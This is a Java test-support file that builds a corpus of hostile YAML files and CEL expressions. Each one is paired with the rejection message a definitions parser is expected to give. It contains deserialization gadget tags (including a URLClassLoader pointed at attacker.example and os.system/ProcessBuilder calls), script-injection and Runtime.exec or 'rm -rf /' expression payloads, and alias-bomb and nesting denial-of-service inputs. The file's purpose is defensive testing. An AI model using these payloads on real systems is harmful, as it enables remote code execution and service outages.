package org.candor.engine;

import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import org.candor.engine.HostileDefinitionsTest.Hostile;
import org.candor.engine.HostileDefinitionsTest.Template;

/** Builds the hostile files of {@link HostileDefinitionsTest}. */
final class HostileCorpus {

  /** Tags that ask a YAML library to build objects, run code or read other types. */
  static final List<String> TAGS =
      List.of(
          "!!java/object:javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]",
          "!!python/object/apply:os.system [\"id\"]",
          "!<tag:yaml.org,2002:java/object:java.lang.ProcessBuilder> [[\"sh\"]]",
          "!ruby/object:Gem::Installer { i: x }",
          "!!js/function \"function () { alert(1) }\"",
          "!!binary PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "!!set { <script>: null }",
          "!!timestamp 2001-12-14t21:59:43.10-05:00");

  /** Values of the wrong shape where text is expected. */
  static final List<String> NOT_TEXT =
      List.of("[\"<script>alert(1)</script>\"]", "{ en: { script: \"<script>\" } }");

  /**
   * An expression-language or injection payload written where a CEL expression is expected, and
   * the problem it must produce.
   *
   * @param offset where the problem is, in code points from the expression's first character (-1:
   *     at the opening quote, for problems with the whole value)
   */
  record Expression(String text, int offset, String message) {}

  static final List<Expression> EXPRESSIONS =
      List.of(
          new Expression("#{partner}", 0, "syntax error: unexpected character '#'"),
          new Expression("${partner}", 0, "syntax error: unexpected character '$'"),
          new Expression("%{partner}", 0, "syntax error: unexpected '%'"),
          new Expression("{{partner}}", 9, "syntax error: unexpected '}'"),
          new Expression("<script>alert(1)</script>", 0, "syntax error: unexpected '<'"),
          new Expression("javascript:alert(1)", 10, "syntax error: unexpected ':'"),
          new Expression("java.lang.Runtime.getRuntime().exec('id') == null", 0, "unknown name 'java': no question has this id"),
          new Expression("partner.getClass().forName('x') == null", 16, "unknown function or name 'getClass'"),
          new Expression("exec('id') == 0", 4, "unknown function or name 'exec'"),
          new Expression("system('rm -rf /')", 6, "unknown function or name 'system'"),
          new Expression("partner == 'yes'; true", 16, "syntax error: unexpected character ';'"),
          new Expression("partner", 0, "the expression must be true or false, but it gives text"),
          new Expression("google.protobuf.Struct{fields: {}} == null", 22, "unknown function or name 'google.protobuf.Struct'"),
          new Expression("'a' + 1 == 'a1'", 4, "'+' cannot be used with text and a whole number"),
          new Expression("partner = 'yes'", 8, "syntax error: unexpected character '= '"),
          new Expression("import os", 0, "syntax error: reserved identifier: import"),
          new Expression("dyn(partner).x == 1", 3, "dyn() is not allowed: it switches type checking off"),
          new Expression("partner == 'yes' || " + "partner == 'no' || ".repeat(120) + "true", -1, "at most 2000 characters"),
          new Expression("(".repeat(300) + "true" + ")".repeat(300), 0, "the expression is nested more than 250 levels deep"),
          new Expression("[".repeat(300) + "]".repeat(300) + " == []", 0, "the expression is nested more than 250 levels deep"),
          new Expression("!".repeat(2000) + "true", -1, "at most 2000 characters"),
          new Expression("-".repeat(2000) + "1 > 0", -1, "at most 2000 characters"));

  private HostileCorpus() {}

  /**
   * @param textSlots each template (the questionnaire comes first) with its text slots
   * @param expressionSlots the questionnaire's expression slots
   */
  static List<Hostile> all(Map<Template, Collection<String>> textSlots, Collection<String> expressionSlots) {
    Template questionnaire = template(textSlots, "hostile.yaml");
    Template kase = template(textSlots, "hostile-case.yaml");
    List<Hostile> all = new ArrayList<>();
    for (var entry : textSlots.entrySet()) {
      Template hostile = entry.getKey();
      Template other = hostile == questionnaire ? kase : questionnaire;
      for (String slot : entry.getValue()) {
        for (int i = 0; i < TAGS.size(); i++) {
          all.add(inSlot("tag " + (i + 1) + " in " + slot, hostile, other, slot, TAGS.get(i), 0, "is not allowed"));
        }
        for (int i = 0; i < NOT_TEXT.size(); i++) {
          all.add(inSlot("not text " + (i + 1) + " in " + slot, hostile, other, slot, NOT_TEXT.get(i), -1, "must be text"));
        }
      }
    }
    for (String slot : expressionSlots) {
      for (int i = 0; i < EXPRESSIONS.size(); i++) {
        Expression expression = EXPRESSIONS.get(i);
        all.add(
            inSlot(
                "expression " + (i + 1) + " in " + slot,
                questionnaire,
                kase,
                slot,
                HostileDefinitionsTest.quoted(expression.text()),
                expression.offset() + 1,
                expression.message()));
      }
    }
    all.addAll(weights(questionnaire, kase));
    all.addAll(aliasBombs(questionnaire, kase));
    all.addAll(nesting(questionnaire, kase));
    all.addAll(huge(questionnaire, kase));
    all.addAll(truncated(questionnaire, kase));
    return all;
  }

  private static Template template(Map<Template, Collection<String>> textSlots, String name) {
    return textSlots.keySet().stream().filter(t -> t.name().equals(name)).findFirst().orElseThrow();
  }

  /** Weights that are not finite numbers. */
  private static List<Hostile> weights(Template questionnaire, Template kase) {
    List<Hostile> all = new ArrayList<>();
    List<String[]> weights =
        List.of(
            new String[] {".nan", "is not a usable number"},
            new String[] {"-.inf", "is not a usable number"},
            new String[] {"1e400", "'1e400' is not a usable number"},
            new String[] {"99999999999999999999999999999", "is out of range: weights go from -1000 to 1000"},
            new String[] {"1e308", "is out of range: weights go from -1000 to 1000"},
            new String[] {"-1001", "is out of range: weights go from -1000 to 1000"},
            new String[] {"9".repeat(1_000_000), "is out of range: weights go from -1000 to 1000"},
            new String[] {"\"10\"", "'risk' must be a number, not text"},
            new String[] {"ten", "'risk' must be a number, not text"},
            new String[] {"[10]", "'risk' must be a number, not a list"},
            new String[] {"{ risk: 10 }", "'risk' must be a number, not a mapping"},
            new String[] {"null", "'risk' is empty"},
            new String[] {"!!float 10", "is not allowed"},
            new String[] {"0x7fffffffffffffffffff", "is out of range"},
            new String[] {"\"${risk}\"", "'risk' must be a number, not text"});
    for (String[] weight : weights) {
      all.add(inSlot("weight " + abbreviated(weight[0]), questionnaire, kase, "weight", weight[0], 0, weight[1]));
    }
    return all;
  }

  /** Anchors and aliases that expand a small file into a huge one ("billion laughs"). */
  private static List<Hostile> aliasBombs(Template questionnaire, Template kase) {
    String lists =
        """
        lol: &a [x, x, x, x, x, x, x, x, x, x]
        b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
        c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
        d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]
        e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
        f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
        """;
    String maps =
        """
        lol: &a {a: x, b: x, c: x, d: x, e: x, f: x, g: x, h: x, i: x, j: x}
        b: &b {a: *a, b: *a, c: *a, d: *a, e: *a, f: *a, g: *a, h: *a, i: *a, j: *a}
        c: &c {a: *b, b: *b, c: *b, d: *b, e: *b, f: *b, g: *b, h: *b, i: *b, j: *b}
        d: &d {a: *c, b: *c, c: *c, d: *c, e: *c, f: *c, g: *c, h: *c, i: *c, j: *c}
        e: &e {a: *d, b: *d, c: *d, d: *d, e: *d, f: *d, g: *d, h: *d, i: *d, j: *d}
        """;
    StringBuilder doubling = new StringBuilder("l0: &l0 [x, x]\n");
    for (int i = 1; i <= 40; i++) {
      doubling.append("l").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l").append(i - 1).append("]\n");
    }
    StringBuilder wide = new StringBuilder("wide: &w [" + "x, ".repeat(999) + "x]\nmany: [");
    wide.append("*w, ".repeat(200)).append("*w]\n");
    String inText = "&t \"<script>alert(1)</script>\"";
    StringBuilder textBomb = new StringBuilder("t0: &t0 [" + inText + ", *t, *t, *t]\n".replace("*t, *t, *t", "x"));
    for (int i = 1; i <= 12; i++) {
      textBomb.append("t").append(i).append(": &t").append(i).append(" [").append(("*t" + (i - 1) + ", ").repeat(9)).append("*t").append(i - 1).append("]\n");
    }
    List<Hostile> all = new ArrayList<>();
    int n = 0;
    for (String bomb : List.of(lists, maps, doubling.toString(), wide.toString(), textBomb.toString())) {
      n++;
      all.add(whole("alias bomb " + n + " in a questionnaire", questionnaire, kase, appended(questionnaire, bomb), "expands to more than"));
      all.add(whole("alias bomb " + n + " in a case", kase, questionnaire, appended(kase, bomb), "expands to more than"));
    }
    return all;
  }

  /** Lists and mappings nested far deeper than a definition needs. */
  private static List<Hostile> nesting(Template questionnaire, Template kase) {
    List<Hostile> all = new ArrayList<>();
    for (int depth : new int[] {30, 1_000, 100_000}) {
      all.add(inSlot("nested lists " + depth, questionnaire, kase, "title", "[".repeat(depth) + "]".repeat(depth), 23, "nested more than 24 levels deep"));
      all.add(inSlot("nested mappings " + depth, questionnaire, kase, "summary", "{a: ".repeat(depth) + "x" + "}".repeat(depth), 23 * 4, "nested more than 24 levels deep"));
      all.add(inSlot("unclosed lists " + depth, kase, questionnaire, "case.title", "[".repeat(depth), 23, "nested more than 24 levels deep"));
    }
    StringBuilder block = new StringBuilder();
    for (int i = 0; i < 40; i++) {
      block.append("  ".repeat(i)).append("a:\n");
    }
    all.add(whole("nested block mappings", questionnaire, kase, appended(questionnaire, "deep:\n" + block.toString().indent(2)), "nested more than 24 levels deep"));
    all.add(whole("nested block lists", questionnaire, kase, appended(questionnaire, "deep:\n" + "  " + "- ".repeat(40) + "x\n"), "nested more than 24 levels deep"));
    return all;
  }

  /** Files over the 1 MiB limit, and files under it that hold too many values. */
  private static List<Hostile> huge(Template questionnaire, Template kase) {
    String big = "x".repeat(1_048_577);
    List<Hostile> all = new ArrayList<>();
    all.add(whole("huge prompt", questionnaire, kase, questionnaire.fill(Map.of("question.prompt", big)), "the file is too large"));
    all.add(whole("huge scenario", kase, questionnaire, kase.fill(Map.of("case.scenario", big)), "the file is too large"));
    all.add(whole("huge comment", questionnaire, kase, "# " + big + "\n" + questionnaire.fill(Map.of()), "the file is too large"));
    all.add(whole("huge blank file", questionnaire, kase, " \n".repeat(600_000), "the file is too large"));
    all.add(whole("many questions", questionnaire, kase, appended(questionnaire, "more: [" + "{ id: q, type: text }, ".repeat(30_000) + "]\n"), "expands to more than"));
    all.add(whole("many values", questionnaire, kase, appended(questionnaire, "more: [" + "1, ".repeat(200_000) + "]\n"), "expands to more than"));
    return all;
  }

  /** The questionnaire and the case cut off after each of their lines. */
  private static List<Hostile> truncated(Template questionnaire, Template kase) {
    List<Hostile> all = new ArrayList<>();
    for (Template template : List.of(questionnaire, kase)) {
      List<String> lines = template.fill(Map.of()).lines().toList();
      for (int keep = 1; keep < lines.size() - 1; keep++) {
        if (lines.get(keep).startsWith("prompts:")) {
          continue; // prompts are optional: without them the questionnaire is complete
        }
        String text = String.join("\n", lines.subList(0, keep)) + "\n";
        all.add(whole(template.name() + " cut after line " + keep, template, template == questionnaire ? kase : questionnaire, text, ""));
      }
    }
    return all;
  }

  private static String abbreviated(String text) {
    return text.length() > 40 ? text.substring(0, 20) + "… (" + text.length() + " characters)" : text;
  }

  private static String appended(Template template, String extra) {
    return template.fill(Map.of()) + extra;
  }

  /** A file set whose {@code hostile} file is {@code text}; the first error may be anywhere. */
  private static Hostile whole(String name, Template hostile, Template other, String text, String message) {
    List<DefinitionSource> sources =
        List.of(new DefinitionSource(hostile.name(), text), new DefinitionSource(other.name(), other.fill(Map.of())));
    return new Hostile(name, sources, hostile.name(), 0, 0, message);
  }

  /**
   * A file set whose {@code hostile} template has {@code value} in {@code slot}.
   *
   * @param shift where the error is expected, in columns after the slot's start, or -1 for
   *     anywhere on its line
   */
  private static Hostile inSlot(
      String name, Template hostile, Template other, String slot, String value, int shift, String message) {
    String marker = "\u0000MARK\u0000";
    String marked = hostile.fill(Map.of(slot, marker));
    int index = marked.indexOf(marker);
    String before = marked.substring(0, index);
    int line = (int) before.chars().filter(c -> c == '\n').count() + 1;
    int column = before.codePointCount(before.lastIndexOf('\n') + 1, before.length()) + 1;
    String text = marked.replace(marker, value);
    List<DefinitionSource> sources =
        List.of(new DefinitionSource(hostile.name(), text), new DefinitionSource(other.name(), other.fill(Map.of())));
    return new Hostile(name, sources, hostile.name(), line, shift < 0 ? 0 : column + shift, message);
  }
}
